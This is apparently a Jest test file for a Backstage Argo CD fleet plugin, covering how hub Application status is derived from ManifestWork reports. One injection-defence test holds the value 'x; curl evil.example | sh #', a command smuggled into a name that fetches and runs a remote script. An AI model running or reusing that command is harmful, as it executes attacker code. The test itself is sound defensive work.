import {
  OPERATION_ANNOTATION,
  STATUS_CONDITION,
  type ArgoApplication,
  type ClusterState,
  type Condition,
  type ManifestWork,
} from 'backstage-plugin-argocd-fleet-common';
import {
  application,
  deepFreeze,
  revision,
} from '../__testUtils__/applications';
import { reportedWork, workOf } from '../__testUtils__/works';
import { applicationStatus } from './applicationStatus';
import { statusMessage } from './statusCondition';

const CLUSTER: ClusterState = {
  name: 'cluster1',
  available: 'True',
  stale: false,
};
const SILENT: ClusterState = {
  name: 'cluster1',
  available: 'Unknown',
  stale: true,
  staleSince: '2026-11-21T10:00:00Z',
};

const FEEDBACK = {
  healthStatus: 'Healthy',
  syncStatus: 'Synced',
  operationStatePhase: 'Succeeded',
  operationStateStartedAt: '2026-11-21T10:02:00Z',
  syncRevision: revision,
};

const V2 = {
  source: {
    repoURL: 'https://github.com/argoproj/argocd-example-apps.git',
    path: 'guestbook',
    targetRevision: 'v2',
  },
};

/** A digest of a comparison with that targetRevision. */
function digest(targetRevision = 'main', whole = '=') {
  return [
    ['s', 'Healthy', 'Synced', revision],
    ['d', 'https://kubernetes.default.svc', '', 'guestbook', whole],
    [
      't',
      'https://github.com/argoproj/argocd-example-apps.git',
      'guestbook',
      '',
      targetRevision,
      '',
    ],
  ];
}

interface Report {
  /** The Application that the work carries. */
  readonly app?: ArgoApplication;
  readonly feedback?: Record<string, string>;
  /** Undefined for an agent without condition rules. */
  readonly digest?: readonly (readonly string[])[] | false;
  /** Generation of the work, and the one that the agent has processed. */
  readonly generation?: number;
  readonly observed?: number;
  readonly annotations?: Record<string, string>;
  readonly operation?: object;
}

/** The work of an Application with what its cluster reported. */
function report(parts: Report = {}): ManifestWork {
  const { app = application(), feedback, generation = 1 } = parts;
  const { observed = generation, annotations, operation } = parts;
  const work = reportedWork({
    work: workOf(app),
    feedback: { ...FEEDBACK, ...feedback },
    ...(parts.digest !== false && {
      digest: parts.digest ?? digest(),
      ready: { observedGeneration: observed },
    }),
    applied: { observedGeneration: observed },
  });
  const [payload] = work.spec.workload!.manifests!;
  return deepFreeze({
    ...work,
    metadata: {
      ...work.metadata,
      generation,
      annotations: { ...work.metadata.annotations, ...annotations },
    },
    spec: {
      ...work.spec,
      workload: {
        manifests: [{ ...payload, ...(operation && { operation }) }],
      },
    },
  });
}

/** A status after a merge patch. */
function merged(status: unknown, patch: unknown): unknown {
  if (typeof patch !== 'object' || patch === null || Array.isArray(patch)) {
    return patch;
  }
  const result: Record<string, unknown> = { ...(status as object) };
  for (const [key, value] of Object.entries(patch)) {
    if (value === null) {
      delete result[key];
    } else {
      result[key] = merged(result[key], value);
    }
  }
  return result;
}

/** The hub Application after its status was written. */
function written(
  app: ArgoApplication,
  work: ManifestWork | undefined,
  cluster = CLUSTER,
): ArgoApplication {
  const { patch } = applicationStatus(app, work, cluster);
  expect(Object.keys(patch ?? {})).toEqual(patch ? ['status'] : []);
  return deepFreeze(merged(app, patch ?? {}) as ArgoApplication);
}

/** The hub Application once its cluster has reported. */
function settled(spec: Partial<ArgoApplication['spec']> = {}) {
  const app = application({ spec });
  return written(app, report({ app }));
}

/** The same Application after a change of its spec. */
function changed(app: ArgoApplication, spec: object): ArgoApplication {
  return deepFreeze({ ...app, spec: { ...app.spec, ...spec } });
}

const sync = (app: ArgoApplication) => app.status?.sync?.status;
const message = (app: ArgoApplication) =>
  app.status?.conditions?.find(({ type }) => type === STATUS_CONDITION)
    ?.message;

describe('the status of a hub Application', () => {
  it('has health, sync, revision and the last operation, and a condition that says where the Application runs', () => {
    const app = settled();
    expect(app.status).toEqual({
      health: { status: 'Healthy' },
      sync: { status: 'Synced', revision },
      operationState: {
        operation: {},
        phase: 'Succeeded',
        startedAt: '2026-11-21T10:02:00Z',
      },
      conditions: [{ type: STATUS_CONDITION, message: expect.any(String) }],
    });
    expect(message(app)!.split('\n').slice(0, -1)).toEqual([
      'Runs on the managed cluster cluster1 as openshift-gitops/cluster1-guestbook-app.',
      'kubectl get manifestworks.work.open-cluster-management.io -n cluster1 cluster1-guestbook-app-2fc44 -o yaml',
      'kubectl get multiclusterapplicationsetreports.apps.open-cluster-management.io -n openshift-gitops guestbook-allclusters-app-set -o yaml',
    ]);
  });

  it('writes Healthy directly, never an artificial Progressing (section 4, item 1)', () => {
    const app = application();
    const progressing = report({ feedback: { healthStatus: 'Progressing' } });
    const before = written(app, progressing);
    expect(before.status?.health?.status).toBe('Progressing');
    expect(written(before, report()).status?.health?.status).toBe('Healthy');
    expect(settled().status?.health?.status).toBe('Healthy');
  });

  it.each<[string, ManifestWork | undefined, ClusterState]>([
    ['right', report(), CLUSTER],
    ['silent', report(), SILENT],
    ['without work', undefined, CLUSTER],
    [
      'behind',
      report({ generation: 2, observed: 1, digest: digest('v1') }),
      CLUSTER,
    ],
    ['without digest', report({ digest: false }), CLUSTER],
  ])('writes nothing the second time: %s', (_, work, cluster) => {
    const once = written(settled(), work, cluster);
    expect(applicationStatus(once, work, cluster).patch).toBeUndefined();
  });

  it('changes nothing else in the status, and keeps the conditions of others', () => {
    const other: Condition = {
      type: 'SharedResourceWarning',
      message: 'shared',
      lastTransitionTime: '2026-11-21T09:00:00Z',
    };
    const app = application({
      status: {
        conditions: [other, { type: STATUS_CONDITION, message: 'of before' }],
        resources: [{ kind: 'Service', name: 'web' }],
        reconciledAt: '2026-11-21T09:00:00Z',
      },
    });
    const { status } = written(app, report());
    expect(status).toMatchObject({
      resources: [{ kind: 'Service', name: 'web' }],
      reconciledAt: '2026-11-21T09:00:00Z',
    });
    expect(status?.conditions).toEqual([
      other,
      { type: STATUS_CONDITION, message: expect.stringContaining('cluster1') },
    ]);
  });

  it('is not written before there is a report: Argo CD treats a missing status as not healthy', () => {
    expect(applicationStatus(application(), workOf(), CLUSTER)).toEqual({
      awaited: false,
      turnsOutOfSync: false,
    });
    expect(
      applicationStatus(application(), undefined, CLUSTER).patch,
    ).toBeUndefined();
  });

  it('names no namespace that an agent or a tenant made up, in lines that are run', () => {
    const work = report();
    const [payload, ...rest] = work.spec.workload!.manifests!;
    const hostile = 'x; curl evil.example | sh #';
    const app = application({
      metadata: {
        ownerReferences: [
          {
            apiVersion: 'argoproj.io/v1alpha1',
            kind: 'ApplicationSet',
            name: hostile,
            uid: '1',
          },
        ],
      },
    });
    const text = statusMessage({
      application: app,
      work: {
        ...work,
        spec: {
          ...work.spec,
          workload: {
            manifests: [
              {
                ...payload,
                metadata: { ...payload.metadata!, namespace: hostile },
              },
              ...rest,
            ],
          },
        },
      },
      cluster: CLUSTER,
      mark: { spec: '0123456789' },
    });
    expect(text.split('\n').slice(0, -1)).toEqual([
      'Runs on the managed cluster cluster1 as openshift-gitops/cluster1-guestbook-app.',
      expect.stringMatching(
        /^kubectl get manifestworks.work.open-cluster-management.io -n cluster1 \S+ -o yaml$/,
      ),
    ]);
  });

  it('says where it runs, not which place of a victim a tenant’s annotation names', () => {
    const refused = application({
      metadata: {
        annotations: {
          'apps.open-cluster-management.io/ocm-managed-cluster': 'cluster1',
          'apps.open-cluster-management.io/ocm-managed-cluster-app-namespace':
            'victim',
        },
      },
    });
    const [condition] = written(refused, report()).status!.conditions!;
    expect(condition.message).toContain(
      'Runs on the managed cluster cluster1 as openshift-gitops/',
    );
    expect(condition.message).not.toContain('victim');
  });

  it('has the condition where the agent cannot apply the Application', () => {
    const work = reportedWork({ applied: { status: 'False' } });
    const app = written(application(), work);
    expect(app.status).toMatchObject({
      health: { status: 'Unknown' },
      sync: { status: 'OutOfSync' },
    });
    expect(message(app)).toContain(
      'kubectl get manifestworks.work.open-cluster-management.io',
    );
  });

  it('is Unknown for values that Argo CD does not have', () => {
    const { status } = written(
      application(),
      report({
        feedback: {
          healthStatus: 'Fine',
          syncStatus: 'InSync',
          operationStatePhase: 'Done',
          operationStateStartedAt: 'yesterday',
        },
      }),
    );
    expect(status).toMatchObject({
      health: { status: 'Unknown' },
      sync: { status: 'Unknown' },
    });
    expect(status?.operationState).toBeUndefined();
  });

  it('has no operation where its start is not a time, which the hub would reject', () => {
    const feedback = { operationStateStartedAt: 'yesterday' };
    const { status } = written(application(), report({ feedback }));
    expect(status?.operationState).toBeUndefined();
  });

  it('loses the operation when the cluster does', () => {
    const feedback = { operationStatePhase: '', operationStateStartedAt: '' };
    const { status } = written(settled(), report({ feedback }));
    expect(status?.operationState).toBeUndefined();
  });

  it('has the revision of each source where there are several', () => {
    const [, d, t] = digest();
    const sources = [
      application().spec.source!,
      { repoURL: 'https://charts.example', chart: 'web', targetRevision: '1' },
    ];
    const app = application({
      spec: { source: undefined, sources },
      status: { sync: { status: 'Synced', revision: 'of before' } },
    });
    const work = report({
      app,
      feedback: { syncRevision: '' },
      digest: [
        ['s', 'Healthy', 'Synced', '', '', `${revision} 1.2.3`],
        d,
        // Argo CD leaves it when there are several.
        ['t', '', '', '', '', ''],
        t,
        ['t', 'https://charts.example', '', 'web', '1', ''],
      ],
    });
    expect(written(app, work).status?.sync).toEqual({
      status: 'Synced',
      revisions: [revision, '1.2.3'],
    });
  });
});

describe('a stale cluster', () => {
  it('keeps its last status, and the condition says since when it is stale (section 4, item 12)', () => {
    const app = written(settled(), report(), SILENT);
    expect(app.status).toMatchObject({
      health: { status: 'Healthy' },
      sync: { status: 'Synced' },
    });
    expect(message(app)).toContain(
      'That cluster has not reported since 2026-11-21T10:00:00Z',
    );
    expect(message(written(app, report()))).not.toContain('not reported since');
  });

  it('is out of sync with a spec that it never compared with', () => {
    const app = changed(settled(), V2);
    const work = report({ app, generation: 2, observed: 1 });
    expect(sync(written(app, work, SILENT))).toBe('OutOfSync');
  });
});

describe('a status is valid only for the spec that it was made for', () => {
  const before = settled();
  const after = changed(before, V2);
  const delivered = { app: after, generation: 2 };
  const helm = (value: string) => ({
    source: { ...V2.source, helm: { parameters: [{ name: 'tag', value }] } },
  });

  it.each<[string, ManifestWork | undefined, string]>([
    ['the work still carries the spec of before', report(), 'OutOfSync'],
    ['there is no work any more', undefined, 'OutOfSync'],
    [
      'the agent has not processed the work',
      report({ ...delivered, observed: 1 }),
      'OutOfSync',
    ],
    ['the agent has, and Argo CD has not', report(delivered), 'OutOfSync'],
    [
      'Argo CD has not compared at all',
      report({ ...delivered, digest: [['s', 'Healthy', 'Synced']] }),
      'OutOfSync',
    ],
    [
      'Argo CD has compared',
      report({ ...delivered, digest: digest('v2') }),
      'Synced',
    ],
    [
      'Argo CD has compared, and the agent does not report the generation of each condition',
      noGeneration(report({ ...delivered, digest: digest('v2') })),
      'Synced',
    ],
    [
      'Argo CD has compared, and an agent that reports it for the whole work only is behind',
      noGeneration(report({ ...delivered, observed: 1, digest: digest('v2') })),
      'OutOfSync',
    ],
  ])('%s', (_, work, expected) => {
    const app = written(after, work);
    expect(sync(app)).toBe(expected);
    expect(app.status?.health?.status).toBe(work ? 'Healthy' : 'Unknown');
    expect(applicationStatus(after, work, CLUSTER)).toMatchObject({
      awaited: expected === 'OutOfSync',
      turnsOutOfSync: expected === 'OutOfSync',
    });
  });

  it('also where the digest does not contain the changed field', () => {
    const app = changed(settled(helm('1')), helm('2'));
    const work = (whole: string) =>
      report({ app, generation: 2, digest: digest('v2', whole) });
    expect(sync(written(app, work('!')))).toBe('OutOfSync');
    expect(sync(written(app, work('=')))).toBe('Synced');
  });

  it('but empty values that Argo CD leaves out are no change', () => {
    const app = changed(before, helm(''));
    const work = report({ app, generation: 2, digest: digest('v2', '!') });
    expect(sync(written(app, work))).toBe('Synced');
  });

  it.each<[string, Partial<ArgoApplication['metadata']>, object]>([
    ['labels', { labels: { ...before.metadata.labels, team: 'web' } }, {}],
    [
      'annotations',
      { annotations: { ...before.metadata.annotations, a: 'b' } },
      {},
    ],
    ['what Argo CD does not compare with', {}, { syncPolicy: {} }],
  ])('a change of %s changes nothing', (_, metadata, spec) => {
    const app = changed(
      { ...before, metadata: { ...before.metadata, ...metadata } },
      spec,
    );
    const work = report({ app, generation: 2, observed: 1 });
    expect(applicationStatus(app, work, CLUSTER).patch).toBeUndefined();
  });

  it('nor does it where the configuration fills in the namespace of the destination', () => {
    const destination = { server: 'x', namespace: 'openshift-gitops' };
    const work = report({
      app: application({ spec: { destination } }),
      digest: false,
    });
    const app = written(
      application({ spec: { destination: { server: 'x' } } }),
      work,
    );
    const plan = applicationStatus(
      changed(app, { syncPolicy: {} }),
      work,
      CLUSTER,
      { defaultDestinationNamespace: true },
    );
    expect(plan.patch).toBeUndefined();
  });

  it('a completed operation that is removed from the work does not turn it out of sync', () => {
    const work = report({ generation: 3, observed: 2 });
    expect(applicationStatus(before, work, CLUSTER).patch).toBeUndefined();
  });

  it('a spec that is changed back has to be compared again', () => {
    const locked = written(after, report({ ...delivered, observed: 1 }));
    const back = changed(locked, { source: before.spec.source });
    const work = (observed: number) => report({ generation: 3, observed });
    expect(sync(written(back, work(1)))).toBe('OutOfSync');
    expect(sync(written(back, work(3)))).toBe('Synced');
  });

  it('a status that another controller wrote stays, where the work is as desired', () => {
    const status = {
      health: { status: 'Healthy' },
      sync: { status: 'Synced' },
    };
    const app = application({ status });
    const work = report({ generation: 2, observed: 1 });
    expect(sync(written(app, work))).toBe('Synced');
  });

  describe('without condition rules', () => {
    const old = { ...delivered, digest: false } as const;
    const locked = written(after, report({ digest: false }));

    it.each<[string, ManifestWork, string]>([
      ['nothing came since', report(old), 'OutOfSync'],
      [
        'the agent is behind',
        report({ ...old, observed: 1, feedback: { syncRevision: 'b' } }),
        'OutOfSync',
      ],
      [
        'only health changed',
        report({ ...old, feedback: { healthStatus: 'Degraded' } }),
        'OutOfSync',
      ],
      [
        'another revision came',
        report({ ...old, feedback: { syncRevision: 'b' } }),
        'Synced',
      ],
      [
        'an operation began',
        report({
          ...old,
          feedback: { operationStateStartedAt: '2026-11-21T10:09:00Z' },
        }),
        'Synced',
      ],
    ])('%s', (_, work, expected) => {
      expect(sync(locked)).toBe('OutOfSync');
      expect(sync(written(locked, work))).toBe(expected);
    });

    it('remembers the report that was there when the spec changed', () => {
      const synced = report({
        ...old,
        observed: 1,
        feedback: { syncStatus: 'Unknown' },
      });
      const still = written(locked, synced);
      expect(sync(still)).toBe('OutOfSync');
      expect(sync(written(still, report(old)))).toBe('OutOfSync');
    });
  });

  it('a read-only work without a digest needs no comparison', () => {
    const work = report({ digest: false });
    const [payload] = work.spec.workload!.manifests!;
    const { apiVersion, kind, metadata } = payload;
    const readOnly: ManifestWork = {
      ...work,
      spec: {
        workload: {
          manifests: [
            {
              apiVersion,
              kind,
              metadata: { name: metadata.name, namespace: metadata.namespace },
            },
          ],
        },
        manifestConfigs: work.spec.manifestConfigs!.map(config => ({
          ...config,
          updateStrategy: { type: 'ReadOnly' },
        })),
      },
    };
    expect(sync(written(after, readOnly))).toBe('Synced');
  });
});

describe('a progressive sync of Argo CD, which takes all but OutOfSync for synced', () => {
  const outOfSync = written(
    application(),
    report({ feedback: { syncStatus: 'OutOfSync' } }),
  );
  const before = FEEDBACK.operationStateStartedAt;
  const operation = { sync: {} };
  const mark = (writtenAt: string, started = before) => ({
    [OPERATION_ANNOTATION]: JSON.stringify({ writtenAt, before: started }),
  });
  const sent = mark('2026-11-21T10:30:00Z');

  it('does not proceed because a cluster cannot compare', () => {
    const work = report({ feedback: { syncStatus: 'Unknown' } });
    expect(sync(written(outOfSync, work))).toBe('OutOfSync');
    expect(sync(written(settled(), work))).toBe('Unknown');
  });

  it('keeps the previous operation until the requested one has begun', () => {
    const awaited = report({
      operation,
      annotations: sent,
      feedback: { syncStatus: 'OutOfSync' },
    });
    expect(
      applicationStatus(outOfSync, awaited, CLUSTER).patch,
    ).toBeUndefined();
  });

  it.each<[string, string, string]>([
    ['on time', '2026-11-21T10:30:02Z', '2026-11-21T10:30:02Z'],
    ['five minutes early', '2026-11-21T10:35:02Z', '2026-11-21T10:35:02Z'],
    ['five minutes late', '2026-11-21T10:25:02Z', '2026-11-21T10:30:00Z'],
  ])(
    'gets no start of its operation before it was sent, by a clock %s',
    (_, clock, startedAt) => {
      const feedback = {
        operationStateStartedAt: clock,
        operationStatePhase: 'Running',
      };
      const work = report({ operation, annotations: sent, feedback });
      expect(written(outOfSync, work).status?.operationState).toEqual({
        operation: {},
        phase: 'Running',
        startedAt,
      });
    },
  );

  describe('with a compromised cluster, whose operation starts in the year 2099', () => {
    const now = Date.parse('2026-11-21T10:40:00Z');
    const future = (phase: string) =>
      report({
        feedback: {
          operationStateStartedAt: '2099-01-01T00:00:00Z',
          operationStatePhase: phase,
        },
      });
    const at = (app: ArgoApplication, work: ManifestWork, ms = now) => {
      const { patch } = applicationStatus(app, work, CLUSTER, { now: ms });
      return merged(app, patch ?? {}) as ArgoApplication;
    };
    const startOf = ({ status }: ArgoApplication) =>
      status?.operationState?.startedAt;

    it('gets the time at which the hub knew', () => {
      const running = at(outOfSync, future('Running'));
      expect(startOf(running)).toBe('2026-11-21T10:40:00Z');
    });

    it('is not written again with each moment that passes', () => {
      const running = at(outOfSync, future('Running'));
      const later = now + 3_600_000;
      expect(
        applicationStatus(running, future('Running'), CLUSTER, { now: later })
          .patch,
      ).toBeUndefined();
    });

    it('gets the right start again once the cluster reports one', () => {
      const poisoned = written(outOfSync, future('Running'));
      expect(startOf(poisoned)).toBe('2099-01-01T00:00:00Z');
      const started = '2026-11-21T10:39:00Z';
      const work = report({
        feedback: {
          operationStateStartedAt: started,
          operationStatePhase: 'Running',
        },
      });
      expect(startOf(at(poisoned, work))).toBe(started);
    });

    it('gets no mark of the year 2099 from its work', () => {
      const work = report({
        operation,
        annotations: mark('2099-01-01T00:00:00Z'),
        feedback: {
          operationStateStartedAt: '2026-11-21T10:39:00Z',
          operationStatePhase: 'Running',
        },
      });
      expect(startOf(at(outOfSync, work))).toBe('2026-11-21T10:39:00Z');
    });
  });

  it('never gets an earlier start than before', () => {
    const early = written(
      settled(),
      report({ feedback: { operationStateStartedAt: '2026-11-21T11:00:00Z' } }),
    );
    const work = report({
      feedback: { operationStateStartedAt: '2026-11-21T10:40:00Z' },
    });
    expect(written(early, work).status?.operationState?.startedAt).toBe(
      '2026-11-21T11:00:00Z',
    );
  });

  it.each(['no JSON', '{}', '{"writtenAt":"soon","before":""}'])(
    'ignores the invalid mark %s',
    text => {
      const annotations = { [OPERATION_ANNOTATION]: text };
      const work = report({ operation, annotations });
      expect(written(outOfSync, work).status).toMatchObject({
        sync: { status: 'Synced' },
        operationState: { startedAt: before },
      });
    },
  );
});

/** A report of an agent that has no generation in the conditions of a manifest. */
function noGeneration(work: ManifestWork): ManifestWork {
  const [first, second] = work.status!.resourceStatus!.manifests!;
  const conditions = second.conditions!.map(
    ({ observedGeneration, ...condition }) => condition,
  );
  return deepFreeze({
    ...work,
    status: {
      ...work.status,
      resourceStatus: { manifests: [first, { ...second, conditions }] },
    },
  });
}
